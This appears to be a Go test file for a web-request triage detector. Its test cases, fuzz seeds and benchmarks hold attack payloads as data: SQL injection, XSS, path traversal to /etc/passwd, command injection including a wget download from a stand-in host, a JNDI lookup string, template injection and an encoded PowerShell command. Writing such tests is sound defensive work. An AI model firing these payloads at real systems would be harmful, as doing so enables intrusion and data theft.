package triage_test

import (
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"spoor/triage"
)

var judgeCases = []struct {
	name, method, path, query string
	want                      []string // rules that must fire, with their fields
}{
	{"plain", "GET", "/index.html", "", nil},
	{"search", "GET", "/search", "q=salt+and+pepper+mill&page=2", nil},
	{"double-coded script", "GET", "/a", "q=%253Cscript%253E", []string{"xss-script query:q"}},
	{"two parameters", "GET", "/a", "x=1&id=1'%20OR%20'x'='x", []string{"sqli-boolean query:id"}},
	{"payload over an ampersand", "GET", "/a", "h=1&&cat /etc/hostname", []string{"cmd-line query:"}},
	{"payload in the path", "GET", "/item/24'%20union%20select%201,2--", "", []string{"sqli-union path"}},
	{"payload in a name", "GET", "/a", "__proto__[x]=1", []string{"code-script query:__proto__[x]"}},
	{"base64", "GET", "/a", "x=PD9waHAgZWNobyBzeXN0ZW0oJ2lkJyk7ID8+", []string{"php-tag query:x"}},
	{"hex literal", "GET", "/a", "x=0x3c3f7068702073797374656d28276964273b", []string{"php-tag query:x"}},
	{"character codes", "GET", "/a", "x=char(60,115,99,114,105,112,116,62)", []string{"xss-script query:x"}},
	{"overlong", "GET", "/a", "f=..%c0%af..%c0%afetc%c0%afpasswd", []string{"lfi-dotdot query:f", "lfi-unix-file query:f"}},
	{"cut over parameters of one name", "GET", "/a", "id=1/*&id=*/union/*&id=*/select/*&id=*/1,2,user()", []string{"sqli-union query:id"}},
	{"cut over two parameters", "GET", "/a", "id=1+union/*&p=*/select+1,2,user()", []string{"sqli-union query:"}},
	{"in JSON", "GET", "/a", "f={%22name%22:%22x\\u0027%20or%20\\u00271\\u0027=\\u00271%22}", []string{"sqli-boolean query:f"}},
	{"in JSON, a name", "GET", "/a", "f=[%7B%22a%22:%22%3Csvg%5C/onload=alert(1)%3E%22%7D]", []string{"xss-handler query:f"}},
	{"encoded command of PowerShell", "GET", "/a", "x=powershell+-enc+dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==", []string{"cmd-windows query:x"}},
	{"reversed", "GET", "/a", "x=strrev('metsys')", []string{"php-call-weak query:x"}},
	{"NUL inside a word", "GET", "/a", "x=<scr%00ipt>alert(1)</scr%00ipt>", []string{"xss-script query:x"}},
	{"known hole", "POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "", []string{"hole-phpunit path"}},
	{"upload by PUT", "PUT", "/x/a.jsp", "", []string{"put-script method"}},
	{"TLS", "", "\x16\x03\x01\x00\xee", "", []string{"not-http-tls path"}},
}

func TestJudge(t *testing.T) {
	j := triage.NewJudge()
	for _, c := range judgeCases {
		var got []string
		for _, f := range j.URI(c.method, c.path, c.query, "HTTP/1.1") {
			got = append(got, f.Rule+" "+f.Field)
		}
		for _, w := range c.want {
			if !slices.Contains(got, w) {
				t.Errorf("%s: %v lacks %q", c.name, got, w)
			}
		}
		if c.want == nil && len(got) > 0 {
			t.Errorf("%s: fires %v", c.name, got)
		}
	}
}

func TestOrder(t *testing.T) {
	j := triage.NewJudge()
	r := &triage.Request{Method: "GET", Path: "/.env", Query: "id=1'+or+1=1--", Agent: "sqlmap/1.7", Referer: "<script>", Protocol: "HTTP/1.1"}
	found := j.Request(r)
	if len(found) < 4 {
		t.Fatalf("found %+v", found)
	}
	for i := 1; i < len(found); i++ {
		a, b := found[i-1], found[i]
		if a.Level < b.Level || a.Level == b.Level && a.Rule > b.Rule {
			t.Errorf("%s (%s) stands before %s (%s)", a.Rule, a.Level, b.Rule, b.Level)
		}
	}
}

// The laws of judgement: the same text gives the same findings, at most one for a rule and field, with
// a bounded match of valid UTF-8 and a level.
func FuzzJudge(f *testing.F) {
	for _, c := range judgeCases {
		f.Add(c.method, c.path, c.query, "agent", "")
	}
	f.Add("GET", "/a", "x='\"`)(;--/*!50000select*/", "${jndi:x}", "http://h.example/?q=\xff\xfe")
	f.Add("GET", "/a", "x={\"a\":\"\\u0027\"}&x=2'&x=/*", "h'x", "\\163\\171\\163+ADw-+AD4-")
	j := triage.NewJudge()
	f.Fuzz(func(t *testing.T, method, path, query, agent, referer string) {
		r := &triage.Request{Method: method, Path: path, Query: query, Agent: agent, Referer: referer, Protocol: "HTTP/1.1", Host: agent}
		found := j.Request(r)
		seen := map[string]bool{}
		for _, x := range found {
			if len(x.Match) > triage.MaxMatch || !utf8.ValidString(x.Match) || !utf8.ValidString(x.Field) || len(x.Target) > triage.MaxMatch {
				t.Fatalf("%s: match of %d bytes, %q", x.Rule, len(x.Match), x.Field)
			}
			if x.Level == triage.None || x.Class == "" || x.Why == "" {
				t.Fatalf("bare finding %+v", x)
			}
			if k := x.Rule + "\x00" + x.Field; seen[k] {
				t.Fatalf("%s fired twice on %s", x.Rule, x.Field)
			} else {
				seen[k] = true
			}
		}
		if !slices.Equal(found, j.Request(r)) {
			t.Fatal("two judgements of one request differ")
		}
		parts := len(j.URI(method, path, query, "HTTP/1.1")) + len(j.Agent(agent)) + len(j.Referer(referer)) + len(j.Host(agent))
		if parts < len(found) {
			t.Fatalf("%d findings in parts, %d in the whole", parts, len(found))
		}
	})
}

var benignRequests = []triage.Request{
	{Method: "GET", Path: "/", Protocol: "HTTP/1.1"},
	{Method: "GET", Path: "/assets/css/main.css", Query: "v=3.2.1", Protocol: "HTTP/1.1"},
	{Method: "GET", Path: "/product.php", Query: "id=81", Protocol: "HTTP/1.1"},
	{Method: "GET", Path: "/search.php", Query: "q=le%20creuset+casserole&page=3&sort=price", Protocol: "HTTP/1.1"},
	{Method: "GET", Path: "/images/products/p20.jpg", Protocol: "HTTP/1.1"},
	{Method: "POST", Path: "/api/v2/orders/41772/items", Protocol: "HTTP/1.1"},
	{Method: "GET", Path: "/index.php", Query: "gclid=NKOzHsS6zn3-5pFvV7SSv7L8TXB57fqR-MvEr12e39LTGOK", Protocol: "HTTP/1.1"},
}

var hostileQueries = []string{
	"id=3%20AND%20ORD%28MID%28%28SELECT%20IFNULL%28CAST%28pw%20AS%20NCHAR%29%2C0x20%29%20FROM%20shop.users%20ORDER%20BY%20pw%20LIMIT%2047%2C1%29%2C10%2C1%29%29%3E104",
	"id=-1%20UNION%20ALL%20SELECT%20NULL,CONCAT(0x7171787671,user(),0x7162716271),NULL--%20-",
	"q=%22%3E%3Csvg/onload=alert(document.domain)%3E",
	"file=..%2f..%2f..%2f..%2fetc%2fpasswd%00",
	"host=127.0.0.1;wget%20http://h.example/x.sh%20-O%20/tmp/x",
	"x=%24%7Bjndi:ldap://h.example/a%7D",
	"q=%7B%7Bconfig.__class__.__init__.__globals__%7D%7D",
	"id=3'(.,%22.)((",
}

func BenchmarkJudge(b *testing.B) {
	j := triage.NewJudge()
	b.Run("benign", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; b.Loop(); i++ {
			r := &benignRequests[i%len(benignRequests)]
			j.URI(r.Method, r.Path, r.Query, r.Protocol)
		}
	})
	b.Run("hostile", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; b.Loop(); i++ {
			j.URI("GET", "/page.php", hostileQueries[i%len(hostileQueries)], "HTTP/1.1")
		}
	})
	b.Run("agent", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			j.Agent("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36")
		}
	})
	b.Run("referer", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			j.Referer("https://www.example.org/search.php?" + strings.Repeat("q=pan&", 2))
		}
	})
}
